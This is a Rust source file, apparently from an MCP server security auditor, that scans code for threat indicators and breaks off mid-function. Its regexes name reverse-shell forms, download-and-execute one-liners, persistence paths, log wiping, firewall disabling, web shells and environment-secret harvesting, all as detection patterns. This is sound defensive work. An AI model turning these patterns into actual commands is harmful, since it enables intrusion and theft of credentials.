//! Per-file detection: capabilities, sensitive paths, endpoints and threat indicators of one
//! source file, from its [`Facts`]. Correlation across them happens in `correlate.rs`.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;

use super::facts::{Facts, LineIndex};
use super::lexicon::{
    self, classify, endpoint_kind, import_capability, secret_of, Capability, EndpointKind, Secret,
    Sink,
};
use mcp_audit_extract::source::{Lang, SourceFile};

/// Where something was seen.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Hit {
    /// 1-based line.
    pub line: u32,
    /// Short excerpt (attacker text; escaped when reported).
    pub evidence: String,
}

/// A threat indicator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum Indicator {
    ReverseShell,
    DownloadExec,
    /// A download-and-run command held as data (assigned, returned, in a table) in a file the
    /// semantic layer reads, which would have seen it reach a shell: named, not seen run.
    DownloadText,
    Persistence,
    AntiAnalysis,
    Obfuscated,
    EncodedPayload,
    DecodeExec,
    Bcc,
    Cc,
    HighEntropy,
    EnvHarvest,
    /// Walks the environment keeping the variables whose names look like secrets.
    EnvSecrets,
    ForkBomb,
    Tamper,
    WebShell,
}

/// A tool argument reaching a dangerous call.
#[derive(Debug, Clone)]
pub(crate) struct Flow {
    /// The parameter.
    pub param: String,
    /// Shell/process (`true`) or dynamic code (`false`).
    pub shell: bool,
    /// Where.
    pub hit: Hit,
}

/// What a tool handler does.
#[derive(Debug, Clone)]
pub(crate) struct Handler {
    /// First and last line.
    pub lines: (u32, u32),
    /// Capabilities its body uses.
    pub effects: BTreeSet<Capability>,
}

/// Everything found in one file.
#[derive(Debug, Clone)]
pub(crate) struct FileReport {
    pub path: String,
    pub caps: BTreeMap<Capability, Hit>,
    pub secrets: Vec<(Secret, Hit)>,
    pub endpoints: Vec<(Option<EndpointKind>, String, Hit)>,
    pub indicators: Vec<(Indicator, Hit)>,
    pub flows: Vec<Flow>,
    pub handlers: Vec<Handler>,
}

impl FileReport {
    pub(crate) fn has(&self, cap: Capability) -> bool {
        self.caps.contains_key(&cap)
    }

    pub(crate) fn indicator(&self, i: Indicator) -> Option<&Hit> {
        self.indicators
            .iter()
            .find(|(k, _)| *k == i)
            .map(|(_, h)| h)
    }
}

fn excerpt_line(text: &str, offset: usize) -> String {
    let start = text[..offset.min(text.len())]
        .rfind('\n')
        .map_or(0, |i| i + 1);
    let end = text[offset.min(text.len())..]
        .find('\n')
        .map_or(text.len(), |i| offset + i);
    let line = text.get(start..end).unwrap_or("").trim();
    line.chars().take(160).collect()
}

fn short(s: &str) -> String {
    s.chars().take(160).collect()
}

/// `\xNN` escapes of printable ASCII (`\x68\x74\x74\x70` is "http"): what obfuscators write to
/// hide text. Bundlers escape Latin-1 letters the same way (`"n\xED"`, zod's locales), which
/// hides nothing.
fn ascii_hex_escapes(text: &str) -> usize {
    text.match_indices("\\x")
        .filter(|(i, _)| {
            text.get(i + 2..i + 4)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
                .is_some_and(|b| (0x20..0x7f).contains(&b))
        })
        .count()
}

/// Scans one source file.
pub(crate) fn scan(file: &SourceFile) -> FileReport {
    let facts = if file.lang == Lang::Shell {
        Facts::lexical(Lang::Shell, &file.text)
    } else {
        Facts::of(file)
    };
    let mut r = FileReport {
        path: file.path.clone(),
        caps: BTreeMap::new(),
        secrets: Vec::new(),
        endpoints: Vec::new(),
        indicators: Vec::new(),
        flows: Vec::new(),
        handlers: Vec::new(),
    };
    let lines = LineIndex::new(&facts.code);
    calls(file.lang, &facts, &mut r);
    let followed = super::facts::semantic_candidate(file);
    literals(file.lang, &facts, followed, &mut r);
    code_patterns(file.lang, &facts, &lines, &mut r);
    if file.lang == Lang::Shell {
        shell_tokens(&facts, &file.text, &mut r);
    }
    taint(file.lang, &facts, &mut r);
    r.indicators.sort_by_key(|(i, h)| (*i, h.line));
    r.indicators.dedup_by_key(|(i, _)| *i);
    r
}

/// Text the semantic layer decoded or reassembled, read as code of the file's language and as
/// one literal; every hit is placed at the line it was decoded from, its evidence saying how.
pub(crate) fn scan_derived(path: &str, lang: Lang, text: &str, line: u32, how: &str) -> FileReport {
    let file = SourceFile::new(path, lang, text);
    let mut facts = Facts::lexical(lang, text);
    facts.lits.push(super::facts::Lit {
        text: text.chars().take(4_096).collect(),
        line: 1,
        start: 0,
    });
    let _ = file;
    let mut r = FileReport {
        path: path.to_string(),
        caps: BTreeMap::new(),
        secrets: Vec::new(),
        endpoints: Vec::new(),
        indicators: Vec::new(),
        flows: Vec::new(),
        handlers: Vec::new(),
    };
    let lines = LineIndex::new(&facts.code);
    calls(lang, &facts, &mut r);
    literals(lang, &facts, false, &mut r);
    code_patterns(lang, &facts, &lines, &mut r);
    let place = |h: &mut Hit| {
        h.line = line;
        h.evidence = format!("decoded {how} at {path}:{line}: {}", h.evidence);
    };
    for (_, h) in &mut r.indicators {
        place(h);
    }
    for (_, h) in &mut r.secrets {
        place(h);
    }
    for (_, _, h) in &mut r.endpoints {
        place(h);
    }
    for h in r.caps.values_mut() {
        place(h);
    }
    r.indicators.sort_by_key(|(i, h)| (*i, h.line));
    r.indicators.dedup_by_key(|(i, _)| *i);
    r
}

fn calls(lang: Lang, facts: &Facts, r: &mut FileReport) {
    for module in &facts.imports {
        if let Some(cap) = import_capability(module) {
            r.caps.entry(cap).or_insert_with(|| Hit {
                line: 1,
                evidence: format!("imports `{}`", short(module)),
            });
        }
    }
    let sinks: Vec<Option<Sink>> = facts
        .calls
        .iter()
        .map(|c| classify(lang, c, facts))
        .collect();
    let mut decoders: Vec<(usize, usize)> = Vec::new();
    for (call, sink) in facts.calls.iter().zip(&sinks) {
        let Some(sink) = sink else { continue };
        if sink.decoder {
            decoders.push(call.range);
            if !sink.shell {
                continue;
            }
        }
        let hit = Hit {
            line: call.line,
            evidence: short(&excerpt_line(&facts.code, call.range.0)),
        };
        r.caps.entry(sink.cap).or_insert(hit);
    }
    // Names bound to decoded data.
    let mut decoded: BTreeSet<&str> = BTreeSet::new();
    for a in &facts.assigns {
        if decoders
            .iter()
            .any(|d| a.value.0 <= d.0 && d.1 <= a.value.1)
        {
            decoded.extend(a.names.iter().map(String::as_str));
        }
    }
    for (call, sink) in facts.calls.iter().zip(&sinks) {
        let Some(sink) = sink else { continue };
        let executes =
            sink.shell && matches!(sink.cap, Capability::DynamicCode | Capability::Process);
        if !executes {
            continue;
        }
        let nested = decoders
            .iter()
            .any(|d| call.args.0 <= d.0 && d.1 <= call.args.1 && *d != call.range);
        let args = facts.slice(call.args);
        let via_name = decoded.iter().any(|n| contains_word(args, n));
        if nested || via_name || (sink.decoder && sink.shell) {
            r.indicators.push((
                Indicator::DecodeExec,
                Hit {
                    line: call.line,
                    evidence: short(&excerpt_line(&facts.code, call.range.0)),
                },
            ));
        }
    }
}

pub(crate) static DOWNLOAD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\b(?:curl|wget)\b[^|;\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
        r"|\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)\s*(?:chmod\s+(?:\+x|[0-7]{3,4})|(?:ba)?sh\s|\./)",
        r"|\b(?:iwr|invoke-webrequest|downloadstring|net\.webclient)\b[^\n]{0,300}\b(?:iex|invoke-expression)\b",
        r"|\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{20,}",
        r"|\bpython[23]?\s+-c\s+[^\n]{0,200}\burl(?:lib|open)[^\n]{0,200}\bexec\b",
    ))
    .expect("valid regex")
});

pub(crate) static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"/dev/(?:tcp|udp)/[\w.\-{}$]+/\w+",
        r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s-[a-z]*e\s+\S*(?:sh|cmd(?:\.exe)?)\b",
        r"|\b(?:ba)?sh\s+-i\s*[<>]&?",
        r"|\bsocat\b[^\n]{0,80}\bexec:",
        r"|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat)\b",
        r"|System\.Net\.Sockets\.TCPClient",
    ))
    .expect("valid regex")
});

pub(crate) static PERSISTENCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bcrontab\b|/etc/cron|/var/spool/cron|\.bashrc\b|\.bash_profile\b|\.zshrc\b|\.zprofile\b|(?:^|[/~])\.profile$|authorized_keys|LaunchAgents|LaunchDaemons|/etc/systemd/system|\.config/systemd/user|\.config/autostart|CurrentVersion\\+Run|/etc/rc\.local|/etc/init\.d/|/etc/ld\.so\.preload|\bschtasks\b")
        .expect("valid regex")
});

/// What a string literal is to the code around it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// An argument (at any depth) of a call that starts a process or evaluates code.
    Run,
    /// An argument of a call that prints, logs or raises it as a message.
    Printed,
    /// Anything else: assigned, returned, kept in a table.
    Data,
}

/// The role of the literal at `offset`: the innermost enclosing call that runs or prints
/// decides (`console.log(chalk.red("…"))` is printed, `execSync(fmt("…"))` runs).
fn role(lang: Lang, facts: &Facts, offset: usize) -> Role {
    let mut enclosing: Vec<&super::facts::Call> = facts
        .calls
        .iter()
        .filter(|c| c.args.0 <= offset && offset < c.args.1)
        .collect();
    enclosing.sort_by_key(|c| std::cmp::Reverse(c.args.0));
    for c in enclosing {
        if let Some(sink) = classify(lang, c, facts) {
            let runs = matches!(sink.cap, Capability::Process | Capability::DynamicCode)
                && (sink.shell || !sink.decoder);
            if runs {
                return Role::Run;
            }
        }
        if message_call(c) {
            return Role::Printed;
        }
    }
    if shell_argument(&facts.code, offset) {
        return Role::Run;
    }
    Role::Data
}

/// Whether the literal at `offset` is the command of a shell's argument vector
/// (`["bash", "-lc", "…"]`, `['sh', '-c', …]`, `["powershell", "-Command", …]`): a command line
/// built to be run, wherever the vector is passed.
fn shell_argument(code: &str, offset: usize) -> bool {
    static ARGV: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?i)["'`](?:/usr)?(?:/bin/)?(?:(?:ba|z|da|k|fi)?sh|pwsh|powershell|cmd)(?:\.exe)?["'`]\s*,\s*["'`](?:-[a-z]*c|-command|/c)["'`]\s*,\s*$"#)
            .expect("valid regex")
    });
    let mut start = offset.saturating_sub(120);
    while !code.is_char_boundary(start) {
        start += 1;
    }
    let Some(before) = code.get(start..offset) else {
        return false;
    };
    // The literal's own opening quote and string prefix (`f"`, `r'`).
    let before = before.strip_suffix(['"', '\'', '`']).unwrap_or(before);
    let before = before.trim_end_matches(['f', 'r', 'b', 'u', 'F', 'R', 'B', 'U']);
    ARGV.is_match(before)
}

/// A call that shows its arguments to a person: print, log, an error or exception built, an
/// exit with a message.
fn message_call(c: &super::facts::Call) -> bool {
    let canon = c.canon.as_str();
    let m = c.method().trim_end_matches('!');
    if m.ends_with("Error") || m.ends_with("Exception") || m.ends_with("Warning") {
        return true;
    }
    if matches!(
        canon,
        "print"
            | "input"
            | "alert"
            | "exit"
            | "quit"
            | "sys.exit"
            | "SystemExit"
            | "warnings.warn"
            | "click.echo"
            | "click.secho"
            | "click.Abort"
            | "typer.echo"
            | "typer.secho"
            | "typer.Exit"
            | "rich.print"
            | "pprint"
            | "pprint.pprint"
            | "errors.New"
            | "println!"
            | "eprintln!"
            | "print!"
            | "eprint!"
            | "panic!"
            | "bail!"
            | "anyhow!"
            | "ensure!"
            | "unimplemented!"
    ) {
        return true;
    }
    let receiver = canon.rsplit_once('.').map_or("", |(r, _)| r);
    if m == "write" && (receiver.ends_with("stdout") || receiver.ends_with("stderr")) {
        return true;
    }
    if (receiver == "fmt" || receiver == "log")
        && (m.starts_with("Print")
            || m.starts_with("Fprint")
            || m.starts_with("Fatal")
            || m.starts_with("Panic")
            || m == "Errorf")
    {
        return true;
    }
    let holder = super::facts::last_segment(receiver).to_ascii_lowercase();
    matches!(
        m,
        "log"
            | "debug"
            | "info"
            | "warn"
            | "warning"
            | "error"
            | "exception"
            | "critical"
            | "fatal"
            | "notice"
            | "trace"
            | "print"
            | "println"
            | "success"
    ) && (holder.contains("log") || holder.contains("console") || holder == "core")
}

/// `followed`: the semantic layer reads this file (and sees where its strings go).
fn literals(lang: Lang, facts: &Facts, followed: bool, r: &mut FileReport) {
    let network = r.has(Capability::Network);
    let mut seen_endpoints = BTreeSet::new();
    for lit in &facts.lits {
        let text = lit.text.as_str();
        if text.len() < 3 {
            continue;
        }
        let hit = || Hit {
            line: lit.line,
            evidence: short(text),
        };
        // Paths, not prose: an error message that mentions a path is not a read.
        let path_like = text.split_whitespace().count() <= 4 && !text.contains(": ");
        if let Some(secret) = secret_of(text).filter(|_| path_like) {
            if !protective(&facts.code, lit.start) {
                r.secrets.push((secret, hit()));
            }
        }
        for c in lexicon::URL.captures_iter(text) {
            let url = c.get(0).map_or("", |m| m.as_str());
            let host = c.get(1).map(|m| m.as_str());
            let kind = endpoint_kind(url, host).filter(|_| !protective(&facts.code, lit.start));
            if seen_endpoints.insert(url.to_string()) && seen_endpoints.len() <= 200 {
                r.endpoints.push((kind, short(url), hit()));
            }
        }
        if let Some(c) = lexicon::BARE_IP.captures(text) {
            if let Ok(ip) = c[1].parse::<std::net::Ipv4Addr>() {
                if lexicon::public(ip) && network && !looks_like_version(text) {
                    r.endpoints
                        .push((Some(EndpointKind::RawIp), short(text), hit()));
                }
            }
        }
        if !lexicon::URL.is_match(text) {
            if let Some(kind) =
                endpoint_kind(text, None).filter(|_| !protective(&facts.code, lit.start))
            {
                r.endpoints.push((Some(kind), short(text), hit()));
            }
        }
        // A command is evidence where it runs: a shell script's running text is read by
        // `shell_tokens`; a message printed or raised runs nothing; a string held as data is
        // followed by the semantic layer where it reads the file.
        if lang != Lang::Shell && DOWNLOAD_EXEC.is_match(text) && !prose(text) {
            match role(lang, facts, lit.start) {
                Role::Run => r.indicators.push((Indicator::DownloadExec, hit())),
                Role::Printed => {}
                Role::Data if followed => r.indicators.push((Indicator::DownloadText, hit())),
                Role::Data => r.indicators.push((Indicator::DownloadExec, hit())),
            }
        }
        if REVERSE_SHELL.is_match(text) {
            r.indicators.push((Indicator::ReverseShell, hit()));
        }
        if text.contains(":(){ :|:& };:") || text.contains(":(){:|:&};:") {
            r.indicators.push((Indicator::ForkBomb, hit()));
        }
        if TAMPER.is_match(text) {
            r.indicators.push((Indicator::Tamper, hit()));
        }
        if WEBSHELL.is_match(text) {
            r.indicators.push((Indicator::WebShell, hit()));
        }
        if PERSISTENCE.is_match(text) && text.len() < 400 && !prose(text) {
            r.indicators.push((Indicator::Persistence, hit()));
        }
        if let Some(kind) = encoded(text) {
            let fed = fed_to_decoder(facts, lit.start);
            if fed {
                r.indicators.push((
                    Indicator::EncodedPayload,
                    Hit {
                        line: lit.line,
                        evidence: format!("{kind} literal of {} characters", text.len()),
                    },
                ));
            } else if text.len() >= 200 && entropy(text) > 5.2 && !facts.lexical {
                r.indicators.push((
                    Indicator::HighEntropy,
                    Hit {
                        line: lit.line,
                        evidence: format!("{kind} literal of {} characters", text.len()),
                    },
                ));
            }
        } else if ascii_hex_escapes(text) >= 40 {
            r.indicators.push((
                Indicator::Obfuscated,
                Hit {
                    line: lit.line,
                    evidence: format!(
                        "string of {} `\\x` escapes of ASCII characters",
                        ascii_hex_escapes(text)
                    ),
                },
            ));
        }
    }
}

/// Documentation and messages rather than a command or a path: several sentences or lines.
fn prose(text: &str) -> bool {
    text.len() > 500 || text.matches(". ").count() >= 2 || text.matches('\n').count() >= 4
}

/// Whether a secret path is named to keep it safe: in a deny list, an exclusion, a check that
/// refuses access (the 300 bytes of code before it say so).
fn protective(code: &str, offset: usize) -> bool {
    static WORDS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)deny|denied|block|forbid|exclude|ignore|protect|restrict|blacklist|disallow|refuse|reject|unsafe|dangerous|redact|ssrf|private_?(?:ip|host|net|range)")
            .expect("valid regex")
    });
    let mut start = offset.saturating_sub(300);
    while !code.is_char_boundary(start) {
        start += 1;
    }
    code.get(start..offset).is_some_and(|w| WORDS.is_match(w))
}

fn looks_like_version(text: &str) -> bool {
    text.split('.').all(|p| p.len() <= 2)
        && text.starts_with(['0', '1', '2'])
        && text
            .split('.')
            .filter_map(|p| p.parse::<u32>().ok())
            .all(|n| n < 30)
}

/// `base64` or `hex` when a literal looks like a long encoded blob.
fn encoded(text: &str) -> Option<&'static str> {
    if text.len() < 120 {
        return None;
    }
    let compact: String = text
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '\\')
        .collect();
    let compact = compact.replace("\\n", "");
    if compact.len() >= 120 && compact.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Some("hex");
    }
    let body = compact.trim_end_matches('=');
    let b64 = body
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'));
    let mixed = body.bytes().any(|b| b.is_ascii_digit())
        && body.bytes().any(|b| b.is_ascii_uppercase())
        && body.bytes().any(|b| b.is_ascii_lowercase());
    (b64 && mixed && body.len() >= 120).then_some("base64")
}

/// Whether the literal at `offset` is decoded: inside a decoder call, or bound to a name that a
/// decoder call receives.
fn fed_to_decoder(facts: &Facts, offset: usize) -> bool {
    let decoders: Vec<_> = facts
        .calls
        .iter()
        .filter(|c| {
            let m = c.method();
            m.contains("decode")
                || m.contains("Decode")
                || matches!(m, "atob" | "fromhex" | "unhexlify" | "decompress" | "loads")
                || (c.canon == "Buffer.from")
                || m.starts_with("inflate")
                || m.starts_with("gunzip")
        })
        .collect();
    if decoders
        .iter()
        .any(|c| c.args.0 <= offset && offset < c.args.1)
    {
        return true;
    }
    let names: Vec<&str> = facts
        .assigns
        .iter()
        .filter(|a| a.value.0 <= offset && offset < a.value.1)
        .flat_map(|a| a.names.iter().map(String::as_str))
        .collect();
    decoders.iter().any(|c| {
        let args = facts.slice(c.args);
        names.iter().any(|n| contains_word(args, n))
    })
}

/// Shannon entropy in bits per character.
pub(crate) fn entropy(text: &str) -> f64 {
    let mut counts = [0usize; 256];
    for b in text.bytes() {
        counts[usize::from(b)] += 1;
    }
    #[allow(clippy::cast_precision_loss)]
    let n = text.len() as f64;
    counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            #[allow(clippy::cast_precision_loss)]
            let p = *c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

static ENV_HARVEST_JS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"JSON\.stringify\(\s*process\.env\s*[,)]|\b(?:body|data|json|payload)\s*:\s*(?:JSON\.stringify\()?process\.env\s*[,}]|\.(?:send|write|post)\(\s*(?:JSON\.stringify\()?process\.env\s*[,)]")
        .expect("valid regex")
});
static ENV_HARVEST_PY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"json\.dumps\(\s*(?:dict\()?\s*os\.environ\b|\bstr\(\s*os\.environ\s*\)|\b(?:json|data|params|body|payload)\s*=\s*(?:dict\()?\s*os\.environ\b|for\s+\w+\s*,\s*\w+\s+in\s+os\.environ\.items\(\)\s*\}|\{\s*\*\*\s*os\.environ\s*\}\s*\)|['\x22]\w*env\w*['\x22]\s*:\s*(?:dict\()?\s*os\.environ\b")
        .expect("valid regex")
});
static ENV_HARVEST_OTHER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"json\.Marshal\(\s*os\.Environ\(\)|env::vars\(\)[^;]{0,80}(?:to_string|json|format)",
    )
    .expect("valid regex")
});
/// A walk over every environment variable.
static ENV_WALK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"Object\.(?:entries|keys)\(\s*process\.env\s*\)|\bfor\s+\w+(?:\s*,\s*\w+)?\s+in\s+os\.environ(?:\.items\(\)|\.keys\(\))?|\bos\.Environ\(\)|\benv::vars\(\)")
        .expect("valid regex")
});
/// Variable names a secret collector filters on.
static SECRET_NAMES: LazyLock<Regex> = LazyLock::new(|| {
    // In string literals and regex alternations (`'TOKEN'`, `/TOKEN|KEY/`), not identifiers.
    Regex::new(r#"["'/|](?:[A-Za-z_]*_)?(?:(?i:token|secret|passw(?:or)?d|api_?key|credentials?)|KEY|AUTH)S?["'/|]"#)
        .expect("valid regex")
});
/// Code that walks the environment to hide secrets, not to take them.
static REDACTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)redact|mask|sanitiz|scrub|\*\*\*|censor|obfuscat|strip_secrets|hide_secrets")
        .expect("valid regex")
});
/// How far after the walk the filter and its purpose are looked for.
const ENV_WALK_WINDOW: usize = 400;

static ENV_READ: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"process\.env\b|os\.environ\b|os\.getenv\b|os\.Getenv\b|env::var")
        .expect("valid regex")
});
static BCC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:["']?\b(bcc|cc)["']?\s*[:=]\s*\[?\s*|\[\s*["'](bcc|cc)["']\s*\]\s*=\s*|\(\s*["'](bcc|cc)["']\s*,\s*)f?["'`]([^"'`\s]*@[^"'`\s]+\.[a-z]{2,})["'`]"#)
        .expect("valid regex")
});
static BCC_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:["']?\b(bcc|cc)["']?\s*[:=]\s*\[?\s*|\[\s*["'](bcc|cc)["']\s*\]\s*=\s*|\(\s*["'](bcc|cc)["']\s*,\s*)((?:[A-Za-z_$][\w$]*\.)*([A-Za-z_$][\w$]*))\s*[,)}\]\n]"#)
        .expect("valid regex")
});
pub(crate) static TAMPER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bsetenforce\s+0\b|\bufw\s+disable\b|\biptables\s+-F\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:firewalld|apparmor|auditd|ufw|falcon-sensor|osqueryd|clamav\S*)|\bauditctl\s+-e\s*0|Set-MpPreference\s+-Disable|\bhistory\s+-c\b|unset\s+HISTFILE|HISTFILE=/dev/null|rm\s+-r?f\s+/var/log|>\s*/var/log/|\bwevtutil\s+cl\b|\bcsrutil\s+disable|spctl\s+--master-disable|\btouch\b[^;&|\n]*\s(?:-[acm]*[tdr]|--date|--reference)\b[^;&|\n]*\s/(?:var/log/|etc/|(?:usr/)?s?bin/|usr/lib/)")
        .expect("valid regex")
});
static WEBSHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?is)<\?php.{0,400}\b(?:system|eval|exec|shell_exec|passthru|assert|popen)\s*\(.{0,200}\$_(?:GET|POST|REQUEST|COOKIE)|<\?php.{0,400}\$_(?:GET|POST|REQUEST|COOKIE).{0,400}\b(?:system|eval|exec|shell_exec|passthru|assert|popen)\s*\(")
        .expect("valid regex")
});
static ANTI_ANALYSIS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"sys\.gettrace\(\)|TracerPid|IsDebuggerPresent|PTRACE_TRACEME|/sys/class/dmi/id/|CheckRemoteDebuggerPresent|\bsetInterval\([^)]{0,40}debugger")
        .expect("valid regex")
});
static OBFUSCATED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\beval\(function\(p,a,c,k,e,[dr]\)|\bexec\(\s*''\.join\(\s*(?:chr|map\(chr)|\bexec\(\s*bytes\(|getattr\(\s*__builtins__\s*,|__import__\(\s*['\x22]builtins['\x22]\s*\)\s*,\s*['\x22](?:exec|eval)|\[\s*['\x22]constructor['\x22]\s*\]\s*\(\s*['\x22]return")
        .expect("valid regex")
});
static HEX_IDENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-f]{4,6}\b").expect("valid regex"));

/// A named list, tuple, set or object literal (`SENSITIVE = ["TOKEN", …]`, a class attribute, a
/// `const`): the filter of an environment walk is often kept in one.
static CONST_LIST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]*(?:(?:export\s+)?(?:const|let|var|static)\s+)?([A-Za-z_$][\w$]*)\s*(?::[^=\n]{0,60})?=\s*(?:(?:new\s+Set|frozenset|set|tuple)\(\s*)?[\[\(\{]")
        .expect("valid regex")
});

/// Whether the environment walk in `window` filters on a named constant of the file that
/// lists secret-looking names, keeping (not excluding) what matches.
fn names_secret_list(code: &str, window: &str) -> bool {
    for c in CONST_LIST.captures_iter(code) {
        let (Some(name), Some(all)) = (c.get(1), c.get(0)) else {
            continue;
        };
        let name = name.as_str();
        if name.len() < 3 {
            continue;
        }
        let mut end = (all.end() + 800).min(code.len());
        while !code.is_char_boundary(end) {
            end -= 1;
        }
        let body = literal_body(&code[all.end() - 1..end]);
        if !SECRET_NAMES.is_match(body) {
            continue;
        }
        let mut used = false;
        let mut excluded = false;
        for (i, _) in window.match_indices(name) {
            let before = window[..i].chars().next_back();
            let after = window[i + name.len()..].chars().next();
            let ident =
                |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$');
            if ident(before) || ident(after) {
                continue;
            }
            // `… not in SECRETS`, `!SECRETS.includes(k)`: the walk leaves the secrets out.
            let head = window[..i].trim_end_matches(|c: char| {
                c.is_alphanumeric() || c == '_' || c == '.' || c == '$'
            });
            let head = head.trim_end();
            if head.ends_with("not in") || head.ends_with('!') {
                excluded = true;
            } else {
                used = true;
            }
        }
        if used && !excluded {
            return true;
        }
    }
    false
}

/// The text of a literal from its opening bracket to the matching close (or the slice's end).
fn literal_body(s: &str) -> &str {
    let mut depth = 0usize;
    for (i, b) in s.bytes().enumerate() {
        match b {
            b'[' | b'(' | b'{' => depth += 1,
            b']' | b')' | b'}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return &s[..=i];
                }
            }
            _ => {}
        }
    }
    s
}

fn code_patterns(lang: Lang, facts: &Facts, lines: &LineIndex, r: &mut FileReport) {
    let code = facts.code.as_str();
    let hit_at = |offset: usize| Hit {
        line: lines.line(offset),
        evidence: short(&excerpt_line(code, offset)),
    };
    let harvest = match lang {
        Lang::JavaScript | Lang::TypeScript | Lang::Tsx => ENV_HARVEST_JS.find(code),
        Lang::Python => ENV_HARVEST_PY.find(code),
        _ => ENV_HARVEST_OTHER.find(code),
    };
    if let Some(m) = harvest {
        r.indicators
            .push((Indicator::EnvHarvest, hit_at(m.start())));
    }
    for m in ENV_WALK.find_iter(code) {
        let mut end = (m.end() + ENV_WALK_WINDOW).min(code.len());
        while !code.is_char_boundary(end) {
            end -= 1;
        }
        let window = &code[m.start()..end];
        if (SECRET_NAMES.is_match(window) || names_secret_list(code, window))
            && !REDACTS.is_match(window)
        {
            r.indicators
                .push((Indicator::EnvSecrets, hit_at(m.start())));
            break;
        }
    }
    if let Some(m) = ENV_READ.find(code) {
        r.caps
            .entry(Capability::Environment)
            .or_insert_with(|| hit_at(m.start()));
    }
    for c in BCC.captures_iter(code).take(4) {
        r.indicators.push((
            mail_recipient_kind(&c),
            hit_at(c.get(0).map_or(0, |m| m.start())),
        ));
    }
    for c in BCC_NAME.captures_iter(code).take(4) {
        let name = c.get(5).map_or("", |m| m.as_str());
        if name.len() < 2 {
            continue;
        }
        let assigned = Regex::new(&format!(
            r#"\b{}\s*[:=]\s*f?["'`][^"'`\s]*@[^"'`\s]+\.[a-zA-Z]{{2,}}["'`]"#,
            regex::escape(name)
        ));
        if assigned.is_ok_and(|re| re.is_match(code)) {
            r.indicators.push((
                mail_recipient_kind(&c),
                hit_at(c.get(0).map_or(0, |m| m.start())),
            ));
        }
    }
    if let Some(m) = ANTI_ANALYSIS.find(code) {
        r.indicators
            .push((Indicator::AntiAnalysis, hit_at(m.start())));
    }
    if let Some(m) = OBFUSCATED.find(code) {
        r.indicators
            .push((Indicator::Obfuscated, hit_at(m.start())));
    }
    let mut hex = HEX_IDENT.find_iter(code);
    if let Some(first) = hex.next() {
        let count = 1 + hex.take(200).count();
        if count >= 20 {
            r.indicators.push((
                Indicator::Obfuscated,
                Hit {
                    line: lines.line(first.start()),
                    evidence: format!("{count}+ obfuscator-style `_0x…` identifiers"),
                },
            ));
        }
    }
    // Python and JavaScript reverse shells built from a socket and a shell.
    let sockets = code.contains("socket.socket")
        || code.contains("net.Socket")
        || code.contains("net.connect")
        || code.contains("createConnection");
    let shell_lit = facts.lits.iter().any(|l| {
        matches!(
            l.text.as_str(),
            "/bin/sh" | "/bin/bash" | "sh" | "bash" | "cmd.exe" | "powershell" | "-i"
        )
    });
    let dup = code.contains("dup2(") && code.contains("fileno()");
    let piped = code.contains(".stdout.pipe(")
        || code.contains(".pipe(sh.stdin")
        || code.contains(".pipe(shell.stdin");
    if sockets && shell_lit && (dup || piped || code.contains("pty.spawn")) {
        let at = code
            .find("dup2(")
            .or_else(|| code.find(".pipe("))
            .or_else(|| code.find("pty.spawn"))
            .unwrap_or(0);
        r.indicators.push((Indicator::ReverseShell, hit_at(at)));
    }
    if code.contains("os.fork()") && code.contains("while True") {
        if let Some(at) = code.find("os.fork()") {
            r.indicators.push((Indicator::ForkBomb, hit_at(at)));
        }
    }
}

fn shell_tokens(facts: &Facts, source: &str, r: &mut FileReport) {
    let code = facts.code.as_str();
    // What the shell runs (printed hints, README heredocs and comments blanked).
    let running = super::shell::executed(source);
    let mut running_lines = running.lines();
    for (line_no, line) in code.lines().enumerate() {
        let runs = running_lines.next().unwrap_or("");
        let line = line.trim();
        if line.starts_with('#') {
            continue;
        }
        let hit = || Hit {
            line: u32::try_from(line_no + 1).unwrap_or(u32::MAX),
            evidence: short(line),
        };
        let words: Vec<&str> = line
            .split(|c: char| c.is_whitespace() || "|;&()`$".contains(c))
            .collect();
        if words
            .iter()
            .any(|w| matches!(*w, "curl" | "wget" | "nc" | "ncat" | "ssh" | "scp"))
        {
